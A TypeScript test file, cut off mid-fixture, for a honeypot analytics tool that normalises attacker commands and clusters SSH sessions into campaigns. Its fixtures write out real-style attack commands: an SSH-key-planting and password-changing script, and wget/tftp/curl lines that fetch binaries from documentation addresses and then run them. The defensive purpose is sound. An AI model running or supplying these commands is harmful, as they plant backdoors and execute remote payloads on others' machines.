/**
 * The analytics on hand-built sessions: command normalisation, kit markers and dropped file
 * names, credential rarity, MinHash/LSH, linkage and the campaign hierarchy (through
 * analyzeSessions with DEFAULT_CONFIG), determinism, and assessSessions.
 *
 * Every session is built by hand with documentation addresses (192.0.2.0/24,
 * 198.51.100.0/24, 203.0.113.0/24); every random choice comes from the engine's seeded Prng.
 */
import { describe, expect, test } from "bun:test"
import { distinctiveFileName, droppedFilesIn } from "../../src/analytics/droppedFiles.ts"
import { isPopularCredential } from "../../src/analytics/credentials.ts"
import { markersIn } from "../../src/analytics/markers.ts"
import { BANDS, lshCandidatePairs, minHashSeeds, minHashSignatures, PERMUTATIONS } from "../../src/analytics/minHash.ts"
import { normalizeCommand, RandomTokenCounts } from "../../src/analytics/normalizeCommand.ts"
import { Prng } from "../../src/analytics/Prng.ts"
import { computeFeatures, jaccard } from "../../src/analytics/sessionFeatures.ts"
import { DEFAULT_CONFIG } from "../../src/config/AnalysisConfig.ts"
import type { AttackSession, Credential, Transfer } from "../../src/domain/AttackSession.ts"
import type { Campaign } from "../../src/domain/Campaign.ts"
import { type Analysis, analyzeSessions } from "../../src/pipeline/analyzeSessions.ts"
import { assessSessions } from "../../src/pipeline/assessSessions.ts"

// ---------------------------------------------------------------------------------------
// building sessions by hand

const T0 = Date.parse("2024-04-01T00:00:00.000Z")
const MINUTE = 60_000
const HOUR = 60 * MINUTE
const DAY = 24 * HOUR

const iso = (ms: number): string => new Date(ms).toISOString()

/** The three documentation /24s. */
const NETS = ["192.0.2", "198.51.100", "203.0.113"] as const
const ip = (net: 0 | 1 | 2, host: number): string => `${NETS[net]}.${host}`

interface SessionSpec {
  readonly id: string
  readonly ip: string
  readonly at: number
  readonly durationMs?: number
  readonly credentials?: ReadonlyArray<Credential>
  readonly commands?: ReadonlyArray<string>
  readonly downloads?: ReadonlyArray<Transfer>
  readonly uploads?: ReadonlyArray<Transfer>
  readonly keys?: ReadonlyArray<string>
  readonly hassh?: string | null
  readonly clientVersion?: string | null
}

const session = (s: SessionSpec): AttackSession => ({
  id: s.id,
  sensor: "sensor-1",
  protocol: "ssh",
  src_ip: s.ip,
  src_port: 40000 + (s.at % 20000),
  dst_ip: "198.51.100.1",
  dst_port: 22,
  start: iso(s.at),
  end: iso(s.at + (s.durationMs ?? 30_000)),
  client_version: s.clientVersion ?? null,
  hassh: s.hassh ?? null,
  credentials: s.credentials ?? [],
  commands: s.commands ?? [],
  downloads: s.downloads ?? [],
  uploads: s.uploads ?? [],
  ssh_keys_added: s.keys ?? [],
  tcpip_forwards: [],
  http_requests: [],
  user_agent: null,
  event_count: 3 + (s.commands?.length ?? 0) + (s.credentials?.length ?? 0)
})

const login = (username: string, password: string, success = false): Credential => ({ username, password, success })

const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
const B64 = `${ALNUM}+/`
/** A per-host random token: mixed case and digits, as kits make them. */
const randomToken = (prng: Prng, length = 10): string => {
  for (;;) {
    let s = ""
    for (let i = 0; i < length; i++) s += ALNUM[prng.int(ALNUM.length)]
    if (/[A-Z]/.test(s) && /[a-z]/.test(s) && /\d/.test(s)) return s
  }
}
const sshKey = (prng: Prng): string => {
  let body = "AAAAB3NzaC1yc2EAAAADAQABAAABAQ"
  for (let i = 0; i < 120; i++) body += B64[prng.int(B64.length)]
  return `ssh-rsa ${body}`
}
const sha = (prng: Prng): string => {
  let s = ""
  for (let i = 0; i < 64; i++) s += "0123456789abcdef"[prng.int(16)]
  return s
}

/** Credentials every scanner tries, used by the background. */
const BACKGROUND_CREDENTIALS: ReadonlyArray<Credential> = [
  login("root", "123456"),
  login("admin", "password"),
  login("root", "password"),
  login("ubnt", "ubnt"),
  login("root", "12345678"),
  login("user", "user")
]
const RECON = ["uname -a", "whoami", "cat /proc/cpuinfo", "w"]
/** Two client fingerprints shared by the whole background: common, so never a link. */
const COMMON_CLIENTS = [
  { hassh: "0a07365cc01fa9fc82608ba4019af499", version: "SSH-2.0-Go" },
  { hassh: "51cba57125523ce4b9db67714a90bf6e", version: "SSH-2.0-libssh2_1.9.0" }
]

/**
 * Unrelated brute-force sessions: popular credentials, a little common recon, a common client,
 * random addresses and times over `days` days.
 */
const background = (count: number, seed: number, idPrefix = "bg", days = 7): Array<AttackSession> => {
  const prng = new Prng(seed, "background")
  const out: Array<AttackSession> = []
  for (let k = 0; k < count; k++) {
    const creds: Array<Credential> = []
    const tries = 1 + prng.int(4)
    for (let t = 0; t < tries; t++) creds.push(BACKGROUND_CREDENTIALS[prng.int(BACKGROUND_CREDENTIALS.length)]!)
    const success = prng.int(3) === 0
    if (success) creds[creds.length - 1] = { ...creds[creds.length - 1]!, success: true }
    const commands = success ? RECON.filter(() => prng.int(2) === 0) : []
    const client = COMMON_CLIENTS[prng.int(2)]!
    out.push(
      session({
        id: `${idPrefix}${String(k).padStart(4, "0")}`,
        ip: ip(prng.int(3) as 0 | 1 | 2, 1 + prng.int(254)),
        at: T0 + Math.floor(prng.next() * days * DAY),
        credentials: creds,
        commands,
        hassh: client.hassh,
        clientVersion: client.version
      })
    )
  }
  return out
}

/** A key-planting script, as the "mdrfckr" kits run it; only the key and the password vary. */
const keyScript = (key: string, password: string): Array<string> => [
  "cd ~; chattr -ia .ssh; lockr -ia .ssh",
  `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${key} mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
  `echo "root:${password}"|chpasswd|bash`,
  "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  "ls -lh $(which ls)",
  "crontab -l"
]

const byStart = (sessions: ReadonlyArray<AttackSession>): Array<AttackSession> =>
  sessions.slice().sort((a, b) => (a.start < b.start ? -1 : a.start > b.start ? 1 : a.id < b.id ? -1 : a.id > b.id ? 1 : 0))

const analyze = (sessions: ReadonlyArray<AttackSession>, seed = DEFAULT_CONFIG.seed): Analysis =>
  analyzeSessions(byStart(sessions), { ...DEFAULT_CONFIG, seed })

const families = (a: Analysis): Array<Campaign> => a.campaigns.filter((c) => c.level === "family")
const familyOf = (a: Analysis, id: string): Campaign | undefined => families(a).find((c) => c.sessions.includes(id))
const sorted = (ids: ReadonlyArray<string>): Array<string> => ids.slice().sort()

/** Session ids in any campaign. */
const clustered = (a: Analysis): Set<string> => new Set(a.campaigns.flatMap((c) => c.sessions))

// ---------------------------------------------------------------------------------------
// normalizeCommand

describe("normalizeCommand", () => {
  test("a random password piped into chpasswd becomes <secret>", () => {
    expect(normalizeCommand('echo "root:Xy7Kq2pL9z"|chpasswd|bash')).toBe("echo <secret>|chpasswd|bash")
    expect(normalizeCommand("echo 'root:Ab3dEf9hIj' | chpasswd")).toBe("echo <secret>|chpasswd")
    expect(normalizeCommand("echo root:Zq81LmnOpq|chpasswd")).toBe("echo <secret>|chpasswd")
    expect(normalizeCommand('echo -e "Pa55wOrdX\\nPa55wOrdX"|passwd')).toBe("echo <secret>|passwd")
    // Two hosts with two passwords give one text.
    expect(normalizeCommand('echo "root:Xy7Kq2pL9z"|chpasswd|bash')).toBe(normalizeCommand('echo "root:q9LmZ2xW7t"|chpasswd|bash'))
  })

  test("random file names are replaced; IPs, long hex and numbers too", () => {
    const a = "cd /tmp; wget http://203.0.113.5/bins/sora.x86 -O ZN5qL4gOwW; chmod 777 ZN5qL4gOwW; ./ZN5qL4gOwW"
    const b = "cd /tmp; wget http://198.51.100.77/bins/sora.x86 -O dIDYJUbMqdg4; chmod 777 dIDYJUbMqdg4; ./dIDYJUbMqdg4"
    expect(normalizeCommand(a)).toBe("cd /tmp; wget http://<ip>/bins/sora.x86 -O <rand>; chmod <n> <rand>; ./<rand>")
    expect(normalizeCommand(b)).toBe(normalizeCommand(a))
    expect(normalizeCommand("echo deadbeefdeadbeef00 > /tmp/x")).toBe("echo <hex> > /tmp/x")
    expect(normalizeCommand("sleep 30; kill -9 1234")).toBe("sleep <n>; kill -<n> <n>")
    // An SSH key body compares equal whatever it is.
    expect(normalizeCommand("echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x mdrfckr >> .ssh/authorized_keys")).toBe(
      "echo ssh-rsa <key> >> .ssh/authorized_keys"
    )
    // Ordinary words stay.
    expect(normalizeCommand("cat /proc/cpuinfo | grep name | wc -l")).toBe("cat /proc/cpuinfo | grep name | wc -l")
  })

  test("whitespace is collapsed and trimmed", () => {
    expect(normalizeCommand("  uname \t -a   ;\n  whoami  ")).toBe("uname -a ; whoami")
    expect(normalizeCommand("   ")).toBe("")
  })

  test("a random-looking token recurring across sessions is kept when the counts say it is common", () => {
    const counts = new RandomTokenCounts(16)
    const kitCommand = (host: string): string => `cd /tmp/gweerwe323f && ./run ${host}`
    // Five sessions share the kit's folder; each has its own random host token.
    const hosts = ["Qw3rTy7uIo", "Zx9cVb2nMa", "Lk4jHg6fDs", "Po1iUy8tRe", "Mn5bVc3xZa"]
    for (const h of hosts) counts.addSession([counts.slotsOf(kitCommand(h))])
    expect(counts.sessionsWith("gweerwe323f")).toBe(5)
    expect(counts.sessionsWith("Qw3rTy7uIo")).toBe(1)
    expect(normalizeCommand(kitCommand("Qw3rTy7uIo"), counts)).toBe("cd /tmp/gweerwe323f && ./run <rand>")
    // Without counts every random-looking token goes.
    expect(normalizeCommand(kitCommand("Qw3rTy7uIo"))).toBe("cd /tmp/<rand> && ./run <rand>")
    // maxSessions raises the bar for "common".
    expect(normalizeCommand(kitCommand("Qw3rTy7uIo"), counts, 5)).toBe("cd /tmp/<rand> && ./run <rand>")
  })

  test("a token repeated inside one session counts once", () => {
    const counts = new RandomTokenCounts(16)
    const cmd = "mkdir /tmp/Hx8KpQ2zLm; cd /tmp/Hx8KpQ2zLm; ./Hx8KpQ2zLm"
    counts.addSession([counts.slotsOf(cmd), counts.slotsOf(cmd)])
    expect(counts.sessionsWith("Hx8KpQ2zLm")).toBe(1)
    expect(normalizeCommand(cmd, counts)).toBe("mkdir /tmp/<rand>; cd /tmp/<rand>; ./<rand>")
    counts.addSession([counts.slotsOf(cmd)])
    expect(counts.sessionsWith("Hx8KpQ2zLm")).toBe(2)
    expect(normalizeCommand(cmd, counts)).toBe(cmd)
  })
})

// ---------------------------------------------------------------------------------------
// markers and dropped files

describe("markersIn", () => {
  test("busybox applet tags", () => {
    expect(markersIn("/bin/busybox ECCHI")).toEqual(["busybox:ECCHI"])
    expect(markersIn("cd /tmp; /bin/busybox GROPZ tftp; /bin/busybox GROPZ wget")).toEqual(["busybox:GROPZ", "busybox:GROPZ"])
    // Lower-case applet names are not tags.
    expect(markersIn("/bin/busybox wget http://192.0.2.1/x")).toEqual([])
  })

  test("hex-escaped echo markers are decoded; the ELF magic is not a marker", () => {
    expect(markersIn("echo -e '\\x47\\x72\\x6f\\x70'")).toEqual(["echo:Grop"])
    expect(markersIn('echo -ne "\\\\x41\\\\x42\\\\x43"')).toEqual(["echo:ABC"])
    expect(markersIn("echo -e '\\x45\\x4c\\x46'")).toEqual([])
    // Two escapes are too few to be a marker.
    expect(markersIn("echo -e '\\x41\\x42'")).toEqual([])
  })

  test("hidden marker files, but not the dotfiles every box has", () => {
    expect(markersIn("echo 1 > /tmp/.nippon")).toEqual(["file:.nippon"])
    expect(markersIn("touch /var/tmp/.xyzzy")).toEqual(["file:.xyzzy"])
    expect(markersIn("echo x > ~/.bashrc")).toEqual([])
    expect(markersIn("cat /tmp/.nippon")).toEqual([])
  })
})

describe("droppedFilesIn and distinctiveFileName", () => {
  test("architecture suffixes fold: sora.x86 and sora.arm7 are one file", () => {
    expect(distinctiveFileName("sora.x86")).toBe("sora.<arch>")
    expect(distinctiveFileName("sora.arm7")).toBe("sora.<arch>")
    expect(distinctiveFileName("/tmp/sora.mips")).toBe("sora.<arch>")
    expect(droppedFilesIn("cd /tmp; wget http://203.0.113.5/bins/sora.x86; chmod +x sora.x86; ./sora.x86")).toEqual(["sora.<arch>"])
    expect(droppedFilesIn("tftp -g -r sora.arm7 198.51.100.3 -l sora.arm7 ; ./sora.arm7")).toEqual(["sora.<arch>"])
  })

  test("distinctive names are kept, wherever the command names them", () => {
    expect(distinctiveFileName("dota3.tar.gz")).toBe("dota3.tar.gz")
    expect(distinctiveFileName("kinsing")).toBe("kinsing")
    expect(distinctiveFileName(".nippon")).toBe(".nippon")
    expect(droppedFilesIn("curl -o /dev/shm/kdevtmpfsi http://192.0.2.9/k")).toContain("kdevtmpfsi")
    expect(droppedFilesIn("echo payload &gt; /tmp/.nippon")).toEqual([".nippon"])
  })

  test("system and generic names are rejected", () => {
    for (const name of ["passwd", "/etc/shadow", "authorized_keys", ".bashrc", "busybox", "bins.sh", "a.sh", "bot.arm7", "xmrig", "/tmp/tmp", "index.html"]) {
      expect(distinctiveFileName(name)).toBeUndefined()
    }
    expect(droppedFilesIn("cat /etc/passwd > /tmp/passwd; cd ~ && echo k >> .ssh/authorized_keys")).toEqual([])
  })

  test("per-host random names are rejected", () => {
    for (const name of ["ZN5qL4gOwW", "dIDYJUbMqdg4", "123456", "deadbeefcafe12", "/tmp/XkQwErTyZ", "x86", "ab"]) {
      expect(distinctiveFileName(name)).toBeUndefined()
    }
    expect(droppedFilesIn("cd /tmp; wget http://192.0.2.1/ZN5qL4gOwW; chmod 777 ZN5qL4gOwW; ./ZN5qL4gOwW")).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------
// credentials

describe("credentials", () => {
  test("isPopularCredential: default and dictionary pairs are popular, an operator's own pair is not", () => {
    for (const [u, p] of [["root", "admin"], ["admin", "admin"], ["pi", "raspberry"], ["root", "123456"], ["oracle", "oracle"], ["admin", "admin@2024"], ["root", "abc"], ["", "Kq8#zLp2!x"], ["root", "<Any pass>"]]) {
      expect(isPopularCredential(u!, p!)).toBe(true)
    }
    for (const [u, p] of [["deploy", "Hx9!rTq2#m"], ["root", "Kq8#zLp2!x"], ["admin", "s3cr3t-kit-2024"]]) {
      expect(isPopularCredential(u!, p!)).toBe(false)
    }
  })

})

// ---------------------------------------------------------------------------------------
// MinHash and LSH

/** A seeded random set of distinct token ids, sorted. */
const randomSet = (prng: Prng, size: number, universe: number): Int32Array => {
  const s = new Set<number>()
  while (s.size < size) s.add(prng.int(universe))
  return Int32Array.from(s).sort()
}

const estimatedJaccard = (sig: Uint32Array, a: number, b: number): number => {
  let equal = 0
  for (let p = 0; p < PERMUTATIONS; p++) if (sig[a * PERMUTATIONS + p] === sig[b * PERMUTATIONS + p]) equal++
  return equal / PERMUTATIONS
}

describe("MinHash", () => {
  test("identical sets give identical signatures; seeds are deterministic", () => {
    const seeds = minHashSeeds(42)
    expect(minHashSeeds(42)).toEqual(seeds)
    expect(minHashSeeds(43)).not.toEqual(seeds)
    const set = Int32Array.from([3, 17, 99, 1024, 5000])
    const sig = minHashSignatures([set, Int32Array.from(set), Int32Array.from([3, 17, 99, 1024, 5001])], seeds)
    expect(sig).toHaveLength(3 * PERMUTATIONS)
    expect(sig.subarray(0, PERMUTATIONS)).toEqual(sig.subarray(PERMUTATIONS, 2 * PERMUTATIONS))
    expect(estimatedJaccard(sig, 0, 1)).toBe(1)
    expect(estimatedJaccard(sig, 0, 2)).toBeLessThan(1)
  })

  test("the share of equal positions estimates the exact Jaccard within 0.1 (binomial error, no bias)", () => {
    // With 128 positions the estimate is Binomial(128, J) / 128: its standard deviation is
    // up to 0.044, so |error| > 0.1 happens for about 2% of pairs even with ideal hashing.
    // Hence: 95% of pairs within 0.1, none beyond 4.5 standard deviations, no bias, and the
    // spread the binomial model predicts.
    const prng = new Prng(5, "minhash-estimate")
    const seeds = minHashSeeds(9)
    const PAIRS = 200
    let within = 0
    let signed = 0
    let z2 = 0
    for (let round = 0; round < PAIRS; round++) {
      // Two sets drawn around a shared core, so Jaccard spans the whole range.
      const core = randomSet(prng, 5 + prng.int(40), 100_000)
      const a = new Set(core)
      const b = new Set(core)
      for (let i = prng.int(40); i > 0; i--) a.add(100_000 + prng.int(100_000))
      for (let i = prng.int(40); i > 0; i--) b.add(200_000 + prng.int(100_000))
      const A = Int32Array.from(a).sort()
      const B = Int32Array.from(b).sort()
      const exact = jaccard(A, B)
      const error = estimatedJaccard(minHashSignatures([A, B], seeds), 0, 1) - exact
      const sd = Math.max(Math.sqrt((exact * (1 - exact)) / PERMUTATIONS), 1 / PERMUTATIONS)
      expect(Math.abs(error)).toBeLessThanOrEqual(4.5 * sd)
      if (Math.abs(error) <= 0.1) within++
      signed += error
      z2 += (error / sd) ** 2
    }
    expect(within / PAIRS).toBeGreaterThanOrEqual(0.95)
    expect(Math.abs(signed / PAIRS)).toBeLessThan(0.015)
    expect(z2 / PAIRS).toBeGreaterThan(0.6)
    expect(z2 / PAIRS).toBeLessThan(1.5)
  })

  test("lshCandidatePairs finds a pair with J ≥ 0.8 and rarely pairs sets with J < 0.2", () => {
    const prng = new Prng(6, "lsh")
    const seeds = minHashSeeds(10)
    const sets: Array<Int32Array> = []
    for (let k = 0; k < 150; k++) sets.push(randomSet(prng, 20 + prng.int(30), 2_000))
    // A near-duplicate of set 0: 45 shared of 50, J = 45 / 55 ≈ 0.82.
    const base = randomSet(prng, 50, 1_000_000)
    const near = Int32Array.from([...base.slice(0, 45), 1_000_001, 1_000_002, 1_000_003, 1_000_004, 1_000_005]).sort()
    sets[0] = base
    sets.push(near)
    const nearIndex = sets.length - 1
    expect(jaccard(base, near)).toBeGreaterThanOrEqual(0.8)

    const sig = minHashSignatures(sets, seeds)
    const flat = lshCandidatePairs(sig, sets.length)
    expect(flat.length % 2).toBe(0)
    const pairs = Array.from({ length: flat.length / 2 }, (_, k) => [flat[2 * k]!, flat[2 * k + 1]!] as const)
    const keys = pairs.map(([a, b]) => `${a},${b}`)
    expect(keys).toContain(`0,${nearIndex}`)
    expect(new Set(keys).size).toBe(keys.length)
    for (const [a, b] of pairs) expect(a).toBeLessThan(b)

    let low = 0
    let lowCandidates = 0
    for (let a = 0; a < sets.length; a++) {
      for (let b = a + 1; b < sets.length; b++) if (jaccard(sets[a]!, sets[b]!) < 0.2) low++
    }
    for (const [a, b] of pairs) if (jaccard(sets[a]!, sets[b]!) < 0.2) lowCandidates++
    expect(low).toBeGreaterThan(10_000)
    expect(lowCandidates / low).toBeLessThan(0.01)
    expect(BANDS).toBe(25)
  })
})

// ---------------------------------------------------------------------------------------
// linkage and hierarchy

describe("linkage", () => {
  test("sessions planting one SSH key form one family across different /24s", () => {
    const prng = new Prng(1, "key-family")
    const key = sshKey(prng)
    const bg = background(60, 101)
    const planted = [
      session({ id: "key-a", ip: ip(0, 10), at: T0 + 2 * HOUR, keys: [key], commands: [`echo "root:${randomToken(prng)}"|chpasswd|bash`], credentials: [login("root", "123456", true)] }),
      session({ id: "key-b", ip: ip(1, 20), at: T0 + 3 * HOUR, keys: [key], credentials: [login("root", "password", true)] }),
      session({ id: "key-c", ip: ip(2, 30), at: T0 + 5 * HOUR, keys: [key], commands: ["uname -a"] }),
      session({ id: "key-d", ip: ip(1, 77), at: T0 + 9 * HOUR, keys: [key] })
    ]
    const a = analyze([...bg, ...planted])
    const fam = familyOf(a, "key-a")
    expect(fam).toBeDefined()
    expect(fam!.sessions).toEqual(["key-a", "key-b", "key-c", "key-d"])
    expect(new Set(fam!.source_ips.map((x) => x.slice(0, x.lastIndexOf("."))))).toEqual(new Set(NETS))
    expect(fam!.indicators).toContainEqual({ type: "ssh_key", value: key })
    expect(fam!.ttps).toContain("T1098.004")
    expect(fam!.name.startsWith("ssh key ssh-rsa")).toBe(true)
    // The background links nothing: popular credentials, common recon, common clients.
    expect(bg.filter((s) => clustered(a).has(s.id))).toEqual([])
    expect(a.unclusteredSessions).toBe(bg.length)
  })

  test("the same script run by sessions without a key links them by behaviour (control)", () => {
    const prng = new Prng(2, "script-control")
    const bg = background(60, 102)
    const script = [0, 1, 2, 3].map((k) =>
      session({ id: `scr-${k}`, ip: ip((k % 3) as 0 | 1 | 2, 40 + k), at: T0 + k * HOUR, commands: keyScript("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCz", randomToken(prng)) })
    )
    const a = analyze([...bg, ...script])
    const fam = familyOf(a, "scr-0")
    expect(fam).toBeDefined()
    expect(fam!.sessions).toEqual(["scr-0", "scr-1", "scr-2", "scr-3"])
    expect(fam!.name.startsWith("commands ")).toBe(true)
  })

  test("two groups running the same script with DIFFERENT keys are not merged by behaviour", () => {
    const prng = new Prng(3, "identity")
    const keyA = sshKey(prng)
    const keyB = sshKey(prng)
    const bg = background(60, 103)
    const group = (name: string, key: string, offset: number): Array<AttackSession> =>
      [0, 1, 2].map((k) =>
        session({
          id: `${name}-${k}`,
          ip: ip(((k + offset) % 3) as 0 | 1 | 2, 100 + offset * 10 + k),
          at: T0 + (offset * 3 + k) * HOUR,
          keys: [key],
          commands: keyScript(key, randomToken(prng)),
          credentials: [login("root", "123456", true)]
        })
      )
    const a = analyze([...bg, ...group("opa", keyA, 0), ...group("opb", keyB, 1)])
    const famA = familyOf(a, "opa-0")
    const famB = familyOf(a, "opb-0")
    expect(famA?.sessions).toEqual(["opa-0", "opa-1", "opa-2"])
    expect(famB?.sessions).toEqual(["opb-0", "opb-1", "opb-2"])
    expect(famA!.id).not.toBe(famB!.id)
    expect(famA!.indicators.filter((i) => i.type === "ssh_key")).toEqual([{ type: "ssh_key", value: keyA }])

    // A session running the script without planting a key, seen first, is the script's first
    // carrier: it may join one operator, but must not bridge the two.
    const bridge = session({ id: "free-0", ip: ip(2, 99), at: T0 - HOUR, commands: keyScript("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCz", randomToken(prng)) })
    const b = analyze([...bg, bridge, ...group("opa", keyA, 0), ...group("opb", keyB, 1)])
    const withBridge = [familyOf(b, "opa-0")!, familyOf(b, "opb-0")!]
    expect(withBridge[0]!.id).not.toBe(withBridge[1]!.id)
    expect(withBridge.filter((f) => f.sessions.includes("free-0"))).toHaveLength(1)
    for (const f of withBridge) {
      expect(f.sessions.some((s) => s.startsWith("opa"))).not.toBe(f.sessions.some((s) => s.startsWith("opb")))
    }
  })

  test("popular credentials never link; a pair in no dictionary links from three sources on, not from two", () => {
    const bg = background(60, 104)
    const sessions = [
      ...bg,
      // root/admin and oracle/oracle: popular, each from exactly two addresses.
      session({ id: "pop-1", ip: ip(0, 201), at: T0 + HOUR, credentials: [login("root", "admin"), login("oracle", "oracle")] }),
      session({ id: "pop-2", ip: ip(2, 202), at: T0 + 2 * HOUR, credentials: [login("root", "admin"), login("oracle", "oracle")] }),
      // An unusual pair shared by two sources: evidence, not a campaign.
      session({ id: "two-1", ip: ip(1, 210), at: T0 + 3 * HOUR, credentials: [login("deploy", "Qm7#vLp2!z")] }),
      session({ id: "two-2", ip: ip(2, 211), at: T0 + 9 * HOUR, credentials: [login("deploy", "Qm7#vLp2!z")] }),
      // A botnet's check login: the same pair in no dictionary from three sources.
      session({ id: "rare-1", ip: ip(1, 203), at: T0 + 30 * HOUR, credentials: [login("root", "123456"), login("deploy", "Hx9!rTq2#m")] }),
      session({ id: "rare-2", ip: ip(2, 204), at: T0 + 80 * HOUR, credentials: [login("deploy", "Hx9!rTq2#m", true)] }),
      session({ id: "rare-3", ip: ip(0, 205), at: T0 + 90 * HOUR, credentials: [login("deploy", "Hx9!rTq2#m")] })
    ]
    const a = analyze(sessions)
    expect(familyOf(a, "pop-1")).toBeUndefined()
    expect(familyOf(a, "pop-2")).toBeUndefined()
    expect(familyOf(a, "two-1")).toBeUndefined()
    const fam = familyOf(a, "rare-1")
    expect(fam?.sessions).toEqual(["rare-1", "rare-2", "rare-3"])
    expect(fam!.indicators).toContainEqual({ type: "credential", value: "deploy/Hx9!rTq2#m" })
    expect(fam!.formed_by).toEqual([{ kind: "credential_marker", links: 2 }])
    expect(a.campaigns.filter((c) => c.level === "family")).toHaveLength(1)
  })

  test("a rare pair from a single address links nothing (one source is not coordination)", () => {
    const bg = background(60, 105)
    const a = analyze([
      ...bg,
      session({ id: "same-1", ip: ip(1, 50), at: T0 + HOUR, credentials: [login("deploy", "Hx9!rTq2#m")] }),
      session({ id: "same-2", ip: ip(1, 50), at: T0 + 50 * HOUR, credentials: [login("deploy", "Hx9!rTq2#m")] })
    ])
    expect(familyOf(a, "same-1")).toBeUndefined()
  })

  test("a client fingerprint never links: a shared SSH library is not a shared actor", () => {
    const prng = new Prng(4, "client")
    const key = sshKey(prng)
    const rare = { hassh: "f0e1d2c3b4a5968778695a4b3c2d1e0f", clientVersion: "SSH-2.0-RareKit_0.3" }
    const bg = background(60, 106)
    const a = analyze([
      ...bg,
      session({ id: "cli-1", ip: ip(0, 61), at: T0 + HOUR, credentials: [login("root", "123456")], ...rare }),
      session({ id: "cli-2", ip: ip(1, 62), at: T0 + 40 * HOUR, credentials: [login("root", "password")], ...rare }),
      // Same client, but it also carries a key shared with another session: that is its link.
      session({ id: "cli-3", ip: ip(2, 63), at: T0 + 20 * HOUR, keys: [key], ...rare }),
      session({ id: "key-1", ip: ip(0, 64), at: T0 + 21 * HOUR, keys: [key] })
    ])
    expect(familyOf(a, "cli-1")).toBeUndefined()
    expect(familyOf(a, "cli-3")?.sessions).toEqual(["cli-3", "key-1"])
    expect(familyOf(a, "cli-3")!.formed_by).toEqual([{ kind: "ssh_key", links: 1 }])
    expect(bg.filter((s) => clustered(a).has(s.id))).toEqual([])
  })
})

describe("hierarchy", () => {
  test("waves split at silences longer than 24 h, not at 23 h or exactly 24 h", () => {
    const prng = new Prng(8, "waves")
    const keyW = sshKey(prng)
    const keyV = sshKey(prng)
    const bg = background(60, 107, "bg", 10)
    const a = analyze([
      ...bg,
      session({ id: "w-1", ip: ip(0, 1), at: T0, keys: [keyW] }),
      session({ id: "w-2", ip: ip(1, 2), at: T0 + HOUR, keys: [keyW] }),
      session({ id: "w-3", ip: ip(2, 3), at: T0 + 2 * HOUR, keys: [keyW] }),
      session({ id: "w-4", ip: ip(0, 4), at: T0 + 2 * HOUR + DAY + 1, keys: [keyW] }),
      session({ id: "w-5", ip: ip(1, 5), at: T0 + 3 * HOUR + DAY + 1, keys: [keyW] }),
      session({ id: "v-1", ip: ip(0, 11), at: T0, keys: [keyV] }),
      session({ id: "v-2", ip: ip(1, 12), at: T0 + 23 * HOUR, keys: [keyV] }),
      session({ id: "v-3", ip: ip(2, 13), at: T0 + 47 * HOUR, keys: [keyV] }),
      session({ id: "v-4", ip: ip(0, 14), at: T0 + 71 * HOUR, keys: [keyV] })
    ])
    const famW = familyOf(a, "w-1")!
    expect(famW.sessions).toEqual(["w-1", "w-2", "w-3", "w-4", "w-5"])
    const waves = a.campaigns.filter((c) => c.parent_id === famW.id)
    expect(waves.map((w) => w.level)).toEqual(["wave", "wave"])
    expect(waves.map((w) => w.sessions)).toEqual([["w-1", "w-2", "w-3"], ["w-4", "w-5"]])
    expect(waves[1]!.first_seen).toBe(iso(T0 + 2 * HOUR + DAY + 1))
    expect(waves[0]!.name).toContain("wave from 2024-04-01")

    const famV = familyOf(a, "v-1")!
    expect(famV.sessions).toEqual(["v-1", "v-2", "v-3", "v-4"])
    expect(a.campaigns.filter((c) => c.parent_id === famV.id)).toEqual([])
  })

  test("a gap of exactly 24 h does not split; one millisecond more does", () => {
    const prng = new Prng(9, "wave-edge")
    const keyX = sshKey(prng)
    const keyY = sshKey(prng)
    const bg = background(40, 108)
    const a = analyze([
      ...bg,
      session({ id: "x-1", ip: ip(0, 1), at: T0, keys: [keyX] }),
      session({ id: "x-2", ip: ip(1, 2), at: T0 + 1000, keys: [keyX] }),
      session({ id: "x-3", ip: ip(2, 3), at: T0 + 1000 + DAY, keys: [keyX] }),
      session({ id: "x-4", ip: ip(0, 4), at: T0 + 2000 + DAY, keys: [keyX] }),
      session({ id: "y-1", ip: ip(0, 5), at: T0, keys: [keyY] }),
      session({ id: "y-2", ip: ip(1, 6), at: T0 + 1000, keys: [keyY] }),
      session({ id: "y-3", ip: ip(2, 7), at: T0 + 1001 + DAY, keys: [keyY] }),
      session({ id: "y-4", ip: ip(0, 8), at: T0 + 2000 + DAY, keys: [keyY] })
    ])
    const famX = familyOf(a, "x-1")!
    const famY = familyOf(a, "y-1")!
    expect(a.campaigns.filter((c) => c.parent_id === famX.id)).toHaveLength(0)
    expect(a.campaigns.filter((c) => c.parent_id === famY.id).map((c) => c.sessions)).toEqual([["y-1", "y-2"], ["y-3", "y-4"]])
  })
})

// ---------------------------------------------------------------------------------------
// a richer world: families, variants, waves, background

/**
 * A kit (busybox tag) dropping two builds from two URLs (two variants, the second in two
 * waves), a key campaign, a behaviour-only campaign, a rare credential pair, and 150
 * background sessions.
 */
const richWorld = (): Array<AttackSession> => {
  const prng = new Prng(21, "rich")
  const key = sshKey(prng)
  const out: Array<AttackSession> = background(150, 121, "bg", 14)
  const dropper = (url: string, name: string): Array<string> => [
    "cd /tmp || cd /var/run || cd /mnt",
    `wget ${url}; chmod 777 ${name}; ./${name} ssh.${randomToken(prng, 6).toLowerCase()}`,
    "/bin/busybox KRNLTAG"
  ]
  const urlA = "http://203.0.113.9/payloads/krnl.x86"
  const urlB = "http://198.51.100.9/alt/kworkerd.arm7"
  const shaA = sha(prng)
  const shaB = sha(prng)
  for (let k = 0; k < 6; k++) {
    out.push(session({
      id: `drop-a${k}`,
      ip: ip((k % 3) as 0 | 1 | 2, 150 + k),
      at: T0 + DAY + k * 2 * HOUR,
      credentials: [login("root", "123456", true)],
      commands: dropper(urlA, "krnl.x86"),
      downloads: [{ url: urlA, sha256: shaA, filename: null }]
    }))
  }
  for (let k = 0; k < 6; k++) {
    out.push(session({
      id: `drop-b${k}`,
